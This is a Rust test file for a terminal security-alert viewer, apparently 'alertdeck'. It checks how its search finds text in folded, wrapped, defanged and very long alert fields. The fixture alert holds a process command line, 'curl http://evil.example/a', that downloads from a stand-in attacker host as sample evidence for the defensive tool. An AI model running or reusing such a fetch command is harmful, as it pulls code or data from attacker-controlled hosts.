//! Finding a text in an alert: in what is folded, in what no line shows, and back.

use alertdeck::app::{Input, Key, KeyCode, Message};
use rstest::rstest;
use serde_json::{Value, json};

use super::{
    desk::{Desk, alert, theme, with},
    overview::{node, visible},
    screens::cells,
};

/// An alert with a device, two processes in a chain, and a file whose signer no line shows.
fn story() -> Value {
    let kind = |name: &str| format!("#microsoft.graph.security.{name}Evidence");
    with(
        alert(1),
        json!({
            "description": "A tool that empties the mail box was started by a document from the net.",
            "evidence": [
                {"@odata.type": kind("device"), "deviceDnsName": "srv-1.contoso.com", "mdeDeviceId": "m1"},
                {"@odata.type": kind("process"), "processId": 10, "mdeDeviceId": "m1",
                    "processCreationDateTime": "2026-11-20T00:00:10Z", "imageFile": {"fileName": "word.exe"},
                    "processCommandLine": "word.exe C:\\Übung.doc"},
                {"@odata.type": kind("process"), "processId": 20, "parentProcessId": 10, "mdeDeviceId": "m1",
                    "processCreationDateTime": "2026-11-20T00:00:20Z",
                    "parentProcessCreationDateTime": "2026-11-20T00:00:10Z",
                    "processCommandLine": "curl http://evil.example/a", "imageFile": {"fileName": "curl.exe",
                    "filePublisher": "Contoso Signing CA"}},
                {"@odata.type": kind("ip"), "ipAddress": "203.0.113.9"},
            ],
        }),
    )
}

fn typing(desk: &mut Desk, text: &str) {
    desk.keys("/");
    desk.type_text(text);
}

/// What the rule says of the hits, and the text under the cursor.
fn place(desk: &Desk) -> (String, String) {
    let find = desk.app.current_detail().unwrap().find.as_ref().unwrap();
    (format!("{} of {}", find.number().unwrap_or(0), find.count()), node(desk))
}

#[rstest]
#[case::case_is_no_matter("CURL.EXE", "1 of 1", "curl.exe (20)")]
#[case::letters_beyond_ascii("übung", "1 of 1", "word.exe (10)")]
#[case::a_value_that_no_line_shows("signing ca", "1 of 1", "curl.exe (20)")]
#[case::defanged("hxxp://evil[.]example", "1 of 1", "curl.exe (20)")]
#[case::defanged_address("203[.]0[.]113[.]9", "1 of 1", "203.0.113.9")]
#[case::across_the_end_of_a_line("mail box was started by a document", "1 of 1", "")]
#[case::the_word_for_such_a_thing("process w", "0 of 0", "")]
#[case::its_kind("process", "1 of 2", "word.exe (10)")]
#[case::not_across_values("curl.exe contoso", "0 of 0", "")]
#[case::no_name_of_a_type("microsoft.graph", "0 of 0", "")]
#[case::blanks_alone("  ", "0 of 0", "")]
fn a_text_is_found_wherever_it_is(#[case] text: &str, #[case] count: &str, #[case] at: &str) {
    let mut desk = Desk::holding(&[story()]);
    desk.resize(90, 40);
    desk.keys("Enter");
    // What is folded is looked through too.
    desk.keys("-");
    typing(&mut desk, text);
    assert_eq!(place(&desk), (count.into(), at.into()));
}

#[test]
fn a_hit_in_what_is_folded_unfolds_its_way_and_esc_goes_back() {
    let mut desk = Desk::holding(&[story()]);
    desk.keys("Enter j - g j j");
    let (before, scroll) = (visible(&desk), desk.app.detail.as_ref().unwrap().scroll);
    assert!(!before.iter().any(|name| name.contains("curl")), "{before:?}");
    typing(&mut desk, "curl.exe");
    assert!(visible(&desk).iter().any(|name| name.contains("curl")));
    // Another letter, and it is looked for from where the reader was.
    desk.type_text("x");
    assert_eq!((visible(&desk), desk.app.detail.as_ref().unwrap().scroll), (before.clone(), scroll));
    desk.keys("Backspace");
    assert_eq!(node(&desk), "curl.exe (20)");
    desk.keys("Esc");
    assert_eq!((visible(&desk), desk.app.detail.as_ref().unwrap().scroll), (before, scroll));
    assert!(desk.app.detail.as_ref().unwrap().find.is_none());
}

#[test]
fn enter_stays_and_hits_go_round() {
    let mut desk = Desk::holding(&[story()]);
    desk.keys("Enter n");
    assert_eq!(desk.notice(), "nothing is looked for: / finds");
    typing(&mut desk, "exe");
    desk.keys("Enter");
    assert_eq!(place(&desk), ("1 of 2".into(), "word.exe (10)".into()));
    desk.keys("n");
    assert_eq!(place(&desk), ("2 of 2".into(), "curl.exe (20)".into()));
    desk.keys("n");
    assert_eq!(place(&desk), ("1 of 2".into(), "word.exe (10)".into()));
    desk.keys("N");
    assert_eq!(place(&desk), ("2 of 2".into(), "curl.exe (20)".into()));
    // One rung a press: what is looked for, then the pane.
    desk.keys("Esc");
    assert!(desk.app.detail.as_ref().unwrap().find.is_none());
    assert_eq!(node(&desk), "curl.exe (20)");
    desk.keys("/ x Ctrl-c");
    assert!(desk.app.find_editor().is_none() && desk.asked.is_empty());
}

#[test]
fn while_typing_arrows_go_on_and_letters_are_text() {
    let mut desk = Desk::holding(&[story()]);
    desk.keys("Enter");
    typing(&mut desk, "exe");
    desk.keys("↓");
    assert_eq!(place(&desk), ("2 of 2".into(), "curl.exe (20)".into()));
    desk.keys("Ctrl-p");
    assert_eq!(place(&desk).0, "1 of 2");
    desk.keys("Ctrl-u");
    desk.type_text("qnN?");
    assert_eq!(desk.app.find_editor().unwrap().text(), "qnN?");
    assert!(desk.asked.is_empty() && desk.app.overlay.is_none());
    assert!(desk.screen().contains("not found"), "{}", desk.screen());
    desk.keys("Ctrl-u");
    desk.paste("evil.example\r\n");
    assert_eq!(
        (desk.app.find_editor().unwrap().text(), node(&desk).as_str()),
        ("evil.example", "curl.exe (20)")
    );
    assert_eq!(desk.app.filter.text(), "", "nothing is filtered by it");
    // Whoever goes away keeps what was found.
    let list = desk.app.layout().list.unwrap();
    desk.send(Message::Input(Input::Click { x: list.x, y: list.y }));
    assert!(desk.app.find_editor().is_none());
    desk.send(Message::Input(Input::Key(Key { code: KeyCode::Tab, ctrl: false })));
    desk.keys("n");
    assert_eq!(place(&desk), ("1 of 1".into(), "curl.exe (20)".into()));
}

#[test]
fn the_line_says_where_a_hit_is_that_it_does_not_show() {
    let mut desk = Desk::holding(&[story()]);
    desk.resize(100, 30);
    desk.keys("Enter");
    typing(&mut desk, "signing");
    let buffer = desk.draw(&theme());
    let line = super::desk::lines(&buffer).into_iter().find(|line| line.contains("curl.exe")).unwrap();
    assert!(line.contains("… imageFile.filePublisher: Contoso Signing CA"), "{line}");
    let (hit, beside) = (cells(&buffer, "Signing")[0], cells(&buffer, "Contoso Signing")[0]);
    assert_ne!(hit.fg, beside.fg, "the hit is set apart");
    desk.keys("Ctrl-u");
    desk.type_text("word");
    let screen = desk.screen();
    assert!(!screen.contains("… processCommandLine"), "what the line shows needs no more: {screen}");
}

#[test]
fn the_next_alert_is_looked_through_for_the_same() {
    let mut desk = Desk::holding(&[story(), with(story(), json!({"id": "other", "description": "curl"}))]);
    desk.keys("Enter");
    typing(&mut desk, "curl");
    desk.keys("Enter");
    let first = place(&desk).0;
    desk.keys("J n");
    assert_ne!(desk.selected(), Some("a1"), "{:?}", desk.rows());
    assert!(desk.app.current_detail().unwrap().find.as_ref().unwrap().count() > 0, "{first}");
    for (width, height) in [(60, 15), (30, 8), (200, 50)] {
        desk.resize(width, height);
        desk.keys("n");
        assert!(desk.app.current_detail().unwrap().find.as_ref().unwrap().number().is_some());
    }
}

#[test]
fn json_and_time_line_are_looked_through_as_they_are_shown() {
    let mut desk = Desk::holding(&[story()]);
    desk.keys("Enter v");
    typing(&mut desk, "filePublisher");
    assert_eq!(place(&desk).0, "1 of 1", "in JSON the names count");
    desk.keys("Enter v");
    assert_eq!(place(&desk).0, "0 of 0");
    desk.keys("Esc t");
    typing(&mut desk, "alert created");
    assert_eq!(place(&desk).0, "1 of 1");
}

#[test]
fn in_the_list_slash_is_the_filter() {
    let mut desk = Desk::holding(&[story()]);
    desk.keys("/");
    assert!(desk.app.filter.editor.is_some() && desk.app.find_editor().is_none());
}

/// An alert with a text longer than a line without a blank in it, at its end a word of its own.
fn long_words() -> Value {
    let url = format!("https://evil.example/{}/needle/{}", "0123456789".repeat(12), "abcdefghij".repeat(8));
    with(
        alert(1),
        json!({
            "description": format!("Fetched {url} twice."),
            "evidence": [{"@odata.type": "#microsoft.graph.security.urlEvidence", "url": url}],
        }),
    )
}

/// Joins what is set apart on the screen as found, line by line.
fn set_apart(desk: &Desk) -> Vec<String> {
    let (theme, buffer) = (theme(), desk.draw(&theme()));
    let area = desk.app.layout().detail.unwrap();
    let line = |y: u16| -> String {
        let cells = (area.x..area.x + area.width).map(|x| &buffer[(x, y)]);
        cells.filter(|cell| Some(cell.fg) == theme.found.fg).map(ratatui::buffer::Cell::symbol).collect()
    };
    (area.y..area.y + area.height).map(line).filter(|line| !line.trim().is_empty()).collect()
}

#[rstest]
#[case::alert("")]
#[case::json("v")]
fn what_is_torn_at_the_end_of_a_line_is_found_and_marked_on_every_line(#[case] view: &str) {
    for width in [60, 80, 97, 200] {
        let mut desk = Desk::holding(&[long_words()]);
        desk.resize(width, 50);
        desk.keys("Enter");
        desk.keys(view);
        let sought = format!("{}/needle/abc", "0123456789".repeat(9));
        typing(&mut desk, &sought);
        let find = desk.app.current_detail().unwrap().find.as_ref().unwrap();
        assert_eq!((find.count(), find.may_be_more()), (2, false), "{width} {view}");
        let marked = set_apart(&desk).concat();
        assert!(marked.contains(&sought), "{width}: {marked}");
    }
}

#[test]
fn a_sentence_is_marked_on_all_lines_that_it_covers() {
    let mut desk = Desk::holding(&[story()]);
    desk.resize(60, 30);
    desk.keys("Enter");
    typing(&mut desk, "mail box was started by a document from the");
    assert_eq!(set_apart(&desk).join(" "), "mail box was started by a document from the");
}

#[test]
fn what_is_too_long_to_be_laid_out_is_looked_through_too() {
    let text = format!("{} the end of it\nand a line more", "much ado about nothing ".repeat(4_000));
    let mut desk = Desk::holding(&[with(alert(1), json!({"description": text}))]);
    desk.keys("Enter");
    typing(&mut desk, "the end of it");
    assert_eq!(place(&desk).0, "1 of 1");
    let screen = desk.screen();
    assert!(screen.contains("1 of 1+"), "there may be more of it: {screen}");
    assert!(screen.contains("kB more:  …"), "{screen}");
    assert_eq!(set_apart(&desk), ["the end of it"]);
    // Where the bound tears a word or a sentence, it is found all the same.
    desk.keys("Ctrl-u");
    let bound = &text[64 * 1024 - 12..64 * 1024 + 12];
    desk.type_text(bound.trim());
    assert!(desk.app.current_detail().unwrap().find.as_ref().unwrap().count() > 0, "{bound}");
    desk.keys("Ctrl-u");
    desk.type_text("ado");
    assert!(desk.screen().contains("+ "), "{}", desk.screen());
    desk.keys("Ctrl-u");
    desk.type_text("not in it");
    assert!(desk.screen().contains("not found"));
}

#[test]
fn the_end_of_a_long_command_line_is_found_and_shown() {
    let evidence = json!([{"@odata.type": "#microsoft.graph.security.processEvidence", "processId": 1,
        "imageFile": {"fileName": "a.exe"},
        "processCommandLine": format!("a.exe {} --needle", "x".repeat(1_000_000))}]);
    let mut desk = Desk::holding(&[with(alert(1), json!({"evidence": evidence}))]);
    desk.keys("Enter");
    typing(&mut desk, "--NEEDLE");
    assert_eq!(place(&desk).0, "1 of 1");
    assert_eq!(set_apart(&desk), ["--needle"]);
    // Of the JSON more than a megabyte is not laid out.
    desk.keys("Enter v");
    assert_eq!(place(&desk).0, "0 of 1");
    desk.keys("n");
    assert_eq!(set_apart(&desk), ["--needle"]);
}

#[test]
fn a_pasted_text_that_nobody_looks_for_is_cut_and_that_is_said() {
    let mut desk = Desk::holding(&[story()]);
    desk.keys("Enter /");
    desk.paste(&"übung ".repeat(500_000));
    assert_eq!(desk.app.find_editor().unwrap().text().chars().count(), 1_000);
    assert_eq!(desk.notice(), "cut: no more than 1,000 characters are looked for");
    assert!(desk.screen().contains("not found"), "{}", desk.screen());
    desk.keys("Ctrl-u u");
    assert_eq!(place(&desk).0, "1 of 5");
}

#[test]
fn where_the_line_says_where_a_hit_is_nothing_of_its_counts_is_left() {
    let mut desk = Desk::holding(&[story()]);
    desk.keys("Enter");
    typing(&mut desk, "signing");
    for width in 50..120 {
        desk.resize(width, 30);
        let screen = desk.screen();
        let line = screen.lines().find(|line| line.contains("cur") && line.contains(": ")).unwrap();
        assert!(line.ends_with("Signing CA") || line.ends_with('…'), "{width}: {line}");
    }
}

#[test]
fn a_technique_is_found_by_what_its_id_stands_for() {
    let mut desk = Desk::holding(&[with(alert(1), json!({"mitreTechniques": ["T1059.001"]}))]);
    desk.keys("Enter");
    for text in ["powershell", "command and scripting", "execution", "t1059.001"] {
        typing(&mut desk, text);
        assert_eq!(desk.app.current_detail().unwrap().find.as_ref().unwrap().count(), 1, "{text}");
        desk.keys("Esc");
    }
}
